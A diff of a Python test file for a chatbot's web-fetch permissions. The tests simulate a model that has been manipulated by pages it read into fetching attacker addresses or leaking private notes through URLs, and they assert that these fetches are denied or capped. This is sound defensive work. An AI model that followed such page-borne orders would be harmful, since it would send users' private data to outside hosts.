@@ -9,7 +9,7 @@ import pytest
 from bot.clock import SetClock
 from bot.trust.provenance import ENOUGH_FOUND, MAX_FOUND_BESIDE_PRIVATE, NOT_GIVEN
 from store import Store
-from tests.bot.chat.turn_helpers import Desk, Scripted, calls, contents, says
+from tests.bot.chat.turn_helpers import Desk, Scripted, calls, contents, says, turn_settings
 from tests.ledger_sums import paid_rows
 from tools import Arguments, Result, ToolContext, ToolSpec
 
@@ -69,24 +69,56 @@ def search() -> Any:
     return calls(("web_search", {"query": "lamps"}))
 
 
-def desk(store: Store, clock: SetClock, pages: Pages, *script: Any) -> Desk:
-    return Desk(store, clock, Scripted([*script, says("Done.")]), tools=(pages, Search(), Notes()), max_rounds=9)
+NINE_ROUNDS = turn_settings(max_rounds=9)
+
+
+def desk(store: Store, clock: SetClock, pages: Pages, *script: Any, search: Search | None = None) -> Desk:
+    tools = (pages, search or Search(), Notes())
+    return Desk(store, clock, Scripted([*script, says("Done.")]), tools=tools, settings=NINE_ROUNDS)
 
 
 def outcomes(desk: Desk) -> list[str]:
     return [json.loads(content).get("error", "ok") for content in contents(desk.provider.requests[-1])]
 
 
-async def test_a_page_that_orders_a_fetch_is_not_obeyed(store: Store, clock: SetClock) -> None:
+LINKS = [f"https://lamps.example/{name}" for name in "abcd"]
+LETTERS = tuple(f"https://evil.example/{letter}" for letter in "abcde")
+DEEPER = "https://lamps.example/deeper"
+NOTE = calls(("recall", {"query": "safe"}))
+STORIES: dict[str, tuple[str, tuple[Any, ...], list[str], str]] = {
+    "a page that orders a fetch is not obeyed": (
+        f"What does {GOOD} say?", (fetch(GOOD), fetch(EVIL)), ["ok", "denied"], NOT_GIVEN
+    ),
+    "what a search found may be read, not the addresses in its words": (
+        "Tell me of lamps", (fetch(GOOD), search(), fetch(GOOD), fetch(EVIL)),
+        ["denied", "ok", "ok", "denied"], NOT_GIVEN
+    ),
+    "links of a page lead to its own host, three in a turn, side by side too; not from there on, and to no other": (
+        f"Read {GOOD}", (fetch(GOOD), fetch(EVIL), fetch(*LINKS), fetch(DEEPER)),
+        ["ok", "denied", "ok", "ok", "ok", "denied", "denied"], NOT_GIVEN
+    ),
+    "a page that offers /a, /b, /c has a model spell out no note that it has read": (
+        f"Read {GOOD}", (fetch(GOOD), NOTE, fetch(LINKS[0])), ["ok", "ok", "denied"], NOT_GIVEN
+    ),
+    "of what was found before a note was read three are fetched": (
+        "Tell me of lamps", (search(), NOTE, fetch(*LETTERS)),
+        ["ok", "ok", *["ok"] * MAX_FOUND_BESIDE_PRIVATE, "denied", "denied"], ENOUGH_FOUND
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("story", STORIES)
+async def test_what_a_turn_may_fetch(store: Store, clock: SetClock, story: str) -> None:
     """The model is taken in by what it has read; the address carries nothing out, and the model is told why."""
-    pages = Pages()
-    table = desk(store, clock, pages, fetch(GOOD), fetch(EVIL))
-    outcome = await table.answer(await table.loaded(f"What does {GOOD} say?"))
-    assert (outcome.text, pages.read) == ("Done.", [GOOD])
-    assert outcomes(table) == ["ok", "denied"]
-    assert json.loads(contents(table.provider.requests[-1])[1])["message"] == NOT_GIVEN
-    tools = [row[:2] for row in await paid_rows(store) if row[0] == "web_fetch"]
-    assert tools == [("web_fetch", "ok"), ("web_fetch", "denied")]
+    text, steps, expected, why = STORIES[story]
+    pages = Pages(links={GOOD: [*LINKS, EVIL], LINKS[0]: [DEEPER]})
+    table = desk(store, clock, pages, *steps, search=Search((GOOD, *LETTERS)))
+    assert (await table.answer(await table.loaded(text))).text == "Done."
+    assert outcomes(table) == expected
+    assert json.loads(contents(table.provider.requests[-1])[-1])["message"] == why
+    assert EVIL not in pages.read
+    paid = [outcome for name, outcome, _ in await paid_rows(store) if name in {"web_fetch", "web_search", "recall"}]
+    assert sorted(paid) == sorted(expected)
 
 
 @pytest.mark.parametrize(
@@ -110,22 +142,13 @@ async def test_an_address_of_the_person_may_be_fetched(
     assert bool(pages.read) is is_read
 
 
-async def test_what_a_search_found_may_be_fetched(store: Store, clock: SetClock) -> None:
-    """Its results, not the addresses in their words; and nothing before it was found."""
-    pages = Pages()
-    table = desk(store, clock, pages, fetch(GOOD), search(), fetch(GOOD), fetch(EVIL))
-    await table.answer(await table.loaded("Tell me of lamps"))
-    assert outcomes(table) == ["denied", "ok", "ok", "denied"]
-    assert pages.read == [GOOD]
-
-
 async def test_the_sources_of_the_last_answer_may_be_opened(store: Store, clock: SetClock) -> None:
     """The person sees them below it: "open the third one"; thanks in between change nothing, a newer answer does."""
     pages, other = Pages(), "https://lamps.example/other"
     first = (search(), says("Lamps flash [101]."), says("You are welcome."), fetch(GOOD, other), says("Read."))
     second = (calls(("web_search", {"query": "other"})), says("Another [102]."), fetch(GOOD))
     found = Search()
-    table = Desk(store, clock, Scripted([*first, *second, says("Done.")]), tools=(pages, found, Notes()), max_rounds=9)
+    table = desk(store, clock, pages, *first, *second, search=found)
     for text in ("Tell me of lamps", "Thanks", "Open the first one"):
         await table.kept(text)
     assert pages.read == [GOOD]
@@ -133,40 +156,6 @@ async def test_the_sources_of_the_last_answer_may_be_opened(store: Store, clock:
     await table.kept("And others?")
     await table.kept("Open it")
     assert pages.read == [GOOD]
-
-
-async def test_links_of_a_page_are_followed_within_bounds(store: Store, clock: SetClock) -> None:
-    """To its own host, three in a turn, side by side too; not from there on, and to nobody else."""
-    links = [f"https://lamps.example/{name}" for name in "abcd"]
-    pages = Pages(links={GOOD: [*links, EVIL], links[0]: ["https://lamps.example/deeper"]})
-    steps = (fetch(EVIL), fetch(*links), fetch("https://lamps.example/deeper"))
-    table = desk(store, clock, pages, fetch(GOOD), *steps)
-    await table.answer(await table.loaded(f"Read {GOOD}"))
-    assert outcomes(table) == ["ok", "denied", "ok", "ok", "ok", "denied", "denied"]
-
-
-async def test_no_link_is_followed_once_private_things_were_read(store: Store, clock: SetClock) -> None:
-    """A page that offers /a, /b, /c has a model spell out what it knows."""
-    link = "https://lamps.example/a"
-    pages = Pages(links={GOOD: [link]})
-    table = desk(store, clock, pages, fetch(GOOD), calls(("recall", {"query": "safe"})), fetch(link))
-    await table.answer(await table.loaded(f"Read {GOOD}"))
-    assert outcomes(table) == ["ok", "ok", "denied"]
-
-
-async def test_what_was_found_before_private_things_were_read_is_fetched_within_bounds(
-    store: Store, clock: SetClock
-) -> None:
-    """A page that has the model search for its letters, read a note and fetch them learns three; side by side, too."""
-    letters = tuple(f"https://evil.example/{letter}" for letter in "abcde")
-    script = (calls(("web_search", {"query": "abcde"})), calls(("recall", {"query": "safe"})), fetch(*letters))
-    pages = Pages()
-    tools = (pages, Search(letters), Notes())
-    table = Desk(store, clock, Scripted([*script, says("Done.")]), tools=tools, max_rounds=9)
-    await table.answer(await table.loaded("Tell me of lamps"))
-    assert outcomes(table) == ["ok", "ok", "ok", "ok", "ok", "denied", "denied"]
-    assert json.loads(contents(table.provider.requests[-1])[-1])["message"] == ENOUGH_FOUND
-    assert len(pages.read) == MAX_FOUND_BESIDE_PRIVATE
 
 
 async def test_a_restart_forgets_neither_leave_nor_count(store: Store, clock: SetClock) -> None:
